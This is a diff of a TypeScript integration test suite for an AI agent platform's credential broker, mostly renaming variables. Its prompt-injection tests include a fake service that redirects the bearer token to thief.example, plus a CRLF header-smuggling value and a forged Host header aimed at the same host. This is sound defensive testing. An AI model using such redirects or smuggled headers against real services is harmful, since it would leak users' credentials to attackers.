@@ -19,7 +19,7 @@ let server: Awaited<ReturnType<typeof startTlsServer>>
 let host: string
 let site: Site
 /** The requests that the host received. */
-let seen: IncomingMessage[]
+let observed: IncomingMessage[]
 let answer: (request: IncomingMessage, response: ServerResponse) => unknown
 
 interface Round {
@@ -33,8 +33,8 @@ model.reply = (response, { body: { messages } }) => {
   const done = messages.slice(said).filter(({ role }) => role === 'assistant').length
   const round = rounds[done]
   if (round === undefined) return say(response, 'Done.')
-  const asked = round.map(({ name, given }, i) => ({ name, given, id: `call_${done}_${i}` }))
-  askFor(response, ...asked)
+  const requests = round.map(({ name, given }, i) => ({ name, given, id: `call_${done}_${i}` }))
+  askFor(response, ...requests)
 }
 
 const web = (path: string, body?: unknown, method?: string) =>
@@ -49,8 +49,8 @@ const web = (path: string, body?: unknown, method?: string) =>
  * @returns the tools' results
  */
 async function turn(...rounds: Round[][]): Promise<Record<string, unknown>[]> {
-  const asked = await stack.chat(owner, { message: JSON.stringify(rounds), agentId })
-  expect([asked.status, asked.body.reply]).toEqual([200, 'Done.'])
+  const request = await stack.chat(owner, { message: JSON.stringify(rounds), agentId })
+  expect([request.status, request.body.reply]).toEqual([200, 'Done.'])
   const { messages } = model.lastCall.body
   return messages
     .slice(messages.findLastIndex(({ role }) => role === 'user'))
@@ -70,7 +70,7 @@ const tools = () => {
 
 beforeAll(async () => {
   server = await startTlsServer((request, response) => {
-    seen.push(request)
+    observed.push(request)
     answer(request, response)
   })
   host = `localhost:${server.port}`
@@ -90,8 +90,8 @@ beforeAll(async () => {
   })
   owner = await stack.newSubscriber()
   agentId = await stack.runningAgent(owner)
-  const kept = { name: 'shop', hosts: [host], header: 'authorization: Bearer {value}', value }
-  expect((await web(`/api/agents/${agentId}/broker-credentials`, kept)).status).toBe(201)
+  const stored = { name: 'shop', hosts: [host], header: 'authorization: Bearer {value}', value }
+  expect((await web(`/api/agents/${agentId}/broker-credentials`, stored)).status).toBe(201)
 })
 afterAll(async () => {
   await stack?.[Symbol.asyncDispose]()
@@ -100,7 +100,7 @@ afterAll(async () => {
   await model[Symbol.asyncDispose]()
 })
 beforeEach(() => {
-  seen = []
+  observed = []
   answer = (_, response) => response.end('{"orders":["tea"]}')
 })
 
@@ -134,7 +134,7 @@ it('an agent calls a service with a credential that it cannot read, and stores a
     { result: { status: 200, headers: {}, body: '{"orders":["tea"]}', cut: false } },
     { result: { key: 'orders', saved: true } },
   ])
-  expect(seen).toMatchObject([
+  expect(observed).toMatchObject([
     {
       method: 'GET',
       url: '/orders?of=ann',
@@ -154,8 +154,10 @@ it('an agent calls a service with a credential that it cannot read, and stores a
 it('an agent reads a page, also if pages have a price', async () => {
   const url = site.origin
   expect((await call(`${stack.now().summarizer}/api/read`, { body: { url } })).status).toBe(402)
-  const [said] = await turn([{ name: 'read_page', given: { url } }])
-  expect(said).toMatchObject({ result: { title: 'Tides', markdown: 'The moon pulls at the sea.' } })
+  const [message] = await turn([{ name: 'read_page', given: { url } }])
+  expect(message).toMatchObject({
+    result: { title: 'Tides', markdown: 'The moon pulls at the sea.' },
+  })
 })
 
 it('stopping a turn closes the connection to its model', async () => {
@@ -171,12 +173,12 @@ it('stopping a turn closes the connection to its model', async () => {
     began.resolve()
   }
   try {
-    const asked = stack.chat(owner, { message: 'Go on', agentId })
+    const pending = stack.chat(owner, { message: 'Go on', agentId })
     await began.promise
     const { runs } = (await web('/api/runs?state=active')).body as { runs: { id: string }[] }
     expect((await web(`/api/runs/${runs[0]!.id}/cancel`, {})).status).toBe(202)
     await closed.promise
-    expect(await asked).toMatchObject({ status: 409, body: { code: 'CANCELLED' } })
+    expect(await pending).toMatchObject({ status: 409, body: { code: 'CANCELLED' } })
   } finally {
     model.reply = reply
   }
@@ -188,23 +190,23 @@ it('a service receives the agent’s request unchanged', async () => {
     request.on('data', (part: Buffer) => bodies.push(String(part)))
     request.on('end', () => response.writeHead(201, { location: '/orders/1' }).end())
   }
-  const [said] = await turn([ask({ method: 'POST', path: '/orders', body: '{"of":"tea"}' })])
-  expect(said).toMatchObject({ result: { status: 201, headers: { location: '/orders/1' } } })
+  const [message] = await turn([ask({ method: 'POST', path: '/orders', body: '{"of":"tea"}' })])
+  expect(message).toMatchObject({ result: { status: 201, headers: { location: '/orders/1' } } })
   expect(bodies.join('')).toBe('{"of":"tea"}')
-  expect(seen[0]?.headers['content-type']).toBe('application/json')
+  expect(observed[0]?.headers['content-type']).toBe('application/json')
 })
 
 describe('an agent with a prompt injection', () => {
   it('does not get the credential back: not by an echo, in a header or by a redirect', async () => {
     answer = ({ headers, url }, response) => {
-      const given = String(headers.authorization)
-      response.writeHead(302, { location: `https://thief.example/?${given}`, link: given })
-      response.end(JSON.stringify({ headers, url, given }))
+      const input = String(headers.authorization)
+      response.writeHead(302, { location: `https://thief.example/?${input}`, link: input })
+      response.end(JSON.stringify({ headers, url, given: input }))
     }
-    const [said] = await turn([ask({ path: '/echo' })])
-    expect(said).toMatchObject({ result: { status: 302 } })
-    expect(JSON.stringify(said)).toContain('*'.repeat(value.length))
-    expect(seen).toHaveLength(1)
+    const [message] = await turn([ask({ path: '/echo' })])
+    expect(message).toMatchObject({ result: { status: 302 } })
+    expect(JSON.stringify(message)).toContain('*'.repeat(value.length))
+    expect(observed).toHaveLength(1)
     expect(JSON.stringify(model.calls)).not.toContain(value)
   })
 
@@ -226,9 +228,9 @@ describe('an agent with a prompt injection', () => {
     ['another Host header', { headers: { host: 'thief.example' } }, /not for you/],
     ['a second header', { headers: { 'x-a': '1\r\nhost: thief.example' } }, /one line/],
   ])('reaches no host by %s', async (_, given, words) => {
-    const [said] = await turn([ask(given)])
-    expect(JSON.stringify(said)).toMatch(words)
-    expect(seen).toEqual([])
+    const [message] = await turn([ask(given)])
+    expect(JSON.stringify(message)).toMatch(words)
+    expect(observed).toEqual([])
   })
 
   it('gets at most the response size of a model, and only text', async () => {
@@ -243,6 +245,6 @@ describe('an agent with a prompt injection', () => {
     const path = `/api/agents/${agentId}/config?apply=false`
     await web(path, { config: { mcp: null } }, 'PUT')
     expect(await turn([ask({})])).toEqual([{ error: expect.stringContaining('403') }])
-    expect(seen).toEqual([])
+    expect(observed).toEqual([])
   })
 })
